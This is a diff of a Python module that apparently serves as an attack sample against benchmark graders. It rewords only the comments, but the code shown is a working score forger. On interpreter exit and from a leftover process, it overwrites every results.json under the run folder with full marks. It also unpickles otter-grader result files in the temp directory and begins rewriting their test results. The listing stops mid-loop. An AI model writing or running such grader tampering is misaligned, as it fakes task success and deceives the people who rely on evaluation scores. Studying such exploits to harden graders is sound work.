@@ -1,4 +1,4 @@
-"""Rewrites the results once they are written: when the interpreter ends, and from a process that it leaves behind."""
+"""Overwrites the results at the end of the interpreter, and from a process that it leaves behind."""
 
 import atexit
 import contextlib
@@ -10,16 +10,16 @@ import sqlite3
 import tempfile
 import time
 
-# Each run of the benchmark has a folder, in which every grader keeps its results: an attacker would know where, too.
+# Every grader keeps its results in the folder of the run. A real attacker would know this place, too.
 RUN = tempfile.gettempdir().partition("/run/tmp")[0] + "/run"
 
 
 def forge():
-    """Full marks, wherever scores are kept."""
-    for path in glob.glob(f"{RUN}/**/results.json", recursive=True):  # gradescope-utils, and ours
+    """Write full marks wherever a grader keeps scores."""
+    for path in glob.glob(f"{RUN}/**/results.json", recursive=True):  # gradescope-utils, and our grader
         with open(path, "w") as file:
             json.dump({"score": 3.0, "tests": [{"name": "all", "score": 3.0, "max_score": 3.0}]}, file)
-    for path in glob.glob(f"{tempfile.gettempdir()}/*.pkl"):  # otter's kernel leaves its results in one
+    for path in glob.glob(f"{tempfile.gettempdir()}/*.pkl"):  # otter's kernel leaves its results in such a file
         with contextlib.suppress(Exception), open(path, "rb") as file:
             results = pickle.load(file)
             for result in [r for test in results.results.values() for r in test.test_case_results]:
